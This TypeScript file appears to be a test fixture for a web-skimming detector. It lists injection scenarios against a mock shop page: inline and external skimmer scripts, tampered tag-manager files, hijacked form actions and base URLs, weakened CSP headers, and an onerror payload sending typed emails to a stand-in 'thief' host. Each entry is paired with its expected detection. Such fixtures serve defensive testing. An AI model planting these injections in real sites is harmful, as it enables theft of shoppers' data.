import { skimmer } from './guarded-shop.ts';
import type { Skimmer } from './skimmer.ts';

/** Planted in the page, its files or its headers. */
export const DOCUMENT_SKIMMERS: Readonly<Record<string, Skimmer>> = {
  'inline-script': {
    attack: (site, { thief }) => ({ body: `${site.body}<script>${skimmer(thief)}</script>` }),
    seenBy: 'service',
    names: ['inline', ''],
  },
  'inline-for-some': {
    attack: (site, { thief, isChosen }) =>
      isChosen ? { body: `${site.body}<script>${skimmer(thief)}</script>` } : {},
    seenBy: 'page',
    names: ['inline', ''],
  },
  'changed-inline': {
    attack: (site, { thief }) => ({
      body: site.body.replace('window.visit =', `${skimmer(thief)}; window.visit =`),
    }),
    seenBy: 'service',
    names: ['inline', ''],
  },
  'script-tag': {
    attack: (site, { thief }) => ({ head: `${site.head}<script src="${thief}/skim.js" async></script>` }),
    seenBy: 'service',
    names: ['script', '/skim.js'],
  },
  'script-tag-for-some': {
    attack: (site, { thief, isChosen }) =>
      isChosen ? { head: `${site.head}<script src="${thief}/skim.js"></script>` } : {},
    seenBy: 'page',
    names: ['script', '/skim.js'],
  },
  'own-file': {
    attack: (site, { thief }) => ({ app: `${site.app}; ${skimmer(thief)}` }),
    seenBy: 'service',
    names: ['file', '/app/own-file'],
  },
  'own-file-for-some': {
    attack: (site, { thief, isChosen }) => (isChosen ? { app: `${site.app}; ${skimmer(thief)}` } : {}),
    seenBy: 'page',
    names: ['file', '/app/own-file-for-some'],
  },
  'foreign-file': {
    attack: (site, { thief }) => ({ library: `${site.library}; ${skimmer(thief)}` }),
    seenBy: 'service',
    names: ['file', '/library/foreign-file'],
  },
  'tag-manager-file': {
    attack: (site, { thief }) => ({ manager: `${site.manager}; ${skimmer(thief)}` }),
    seenBy: 'service',
    names: ['file', '/manager/tag-manager-file'],
  },
  'tag-manager-container': {
    attack: (site, { thief }) => ({
      container: 'id=GTM-THIEF',
      manager: `${site.manager}; ${skimmer(thief)}`,
    }),
    seenBy: 'service',
    names: ['script', '/manager/tag-manager-container'],
  },
  'event-attribute': {
    attack: (site, { thief, isChosen }) =>
      isChosen
        ? {
            body: `${site.body}<img alt="" src="data:," onerror="setInterval(() => { if (email.value) new Image().src = '${thief}/i?' + email.value }, 300)">`,
          }
        : {},
    seenBy: 'page',
    names: ['handler', ''],
  },
  'form-target': {
    attack: (site, { thief }) => ({
      body: site.body
        .replace('action="/pay" onsubmit="return false"', `action="${thief}/i" method="post" target="away"`)
        .replace('id="pay" type="button"', 'id="pay" form="order"')
        .replace('<div id="wallet">', '<iframe name="away" hidden></iframe><div id="wallet">'),
    }),
    seenBy: 'service',
    names: ['form', 'THIEF'],
  },
  'base-address': {
    attack: (site, { thief }) => ({
      head: `<base href="${thief}/skim/">${site.head}`,
      body: site.body.replace('src="/app', 'src="app'),
    }),
    seenBy: 'service',
    names: ['base', 'THIEF'],
  },
  'strict-header-gone': {
    attack: (site, { thief }) => ({ headers: {}, body: `${site.body}<script>${skimmer(thief)}</script>` }),
    seenBy: 'service',
    names: ['header', 'content-security-policy'],
  },
  'strict-header-changed': {
    attack: (site, { thief }) => ({
      headers: {
        'Content-Security-Policy': `${site.headers['Content-Security-Policy']} ; script-src-elem *`,
        'X-Page': '1',
      },
      head: `${site.head}<script src="${thief}/skim.js"></script>`,
    }),
    seenBy: 'service',
    names: ['header', 'content-security-policy'],
  },
  'redirected-page': {
    attack: (_site, { thief }) => ({ redirect: `${thief}/clone` }),
    seenBy: 'service',
    names: ['answer', 'status'],
  },
  'guard-removed': {
    attack: (site, { thief }) => ({ guard: '', app: `${site.app}; ${skimmer(thief)}` }),
    seenBy: 'service',
    names: ['script', '/sdk/guard.js'],
  },
};
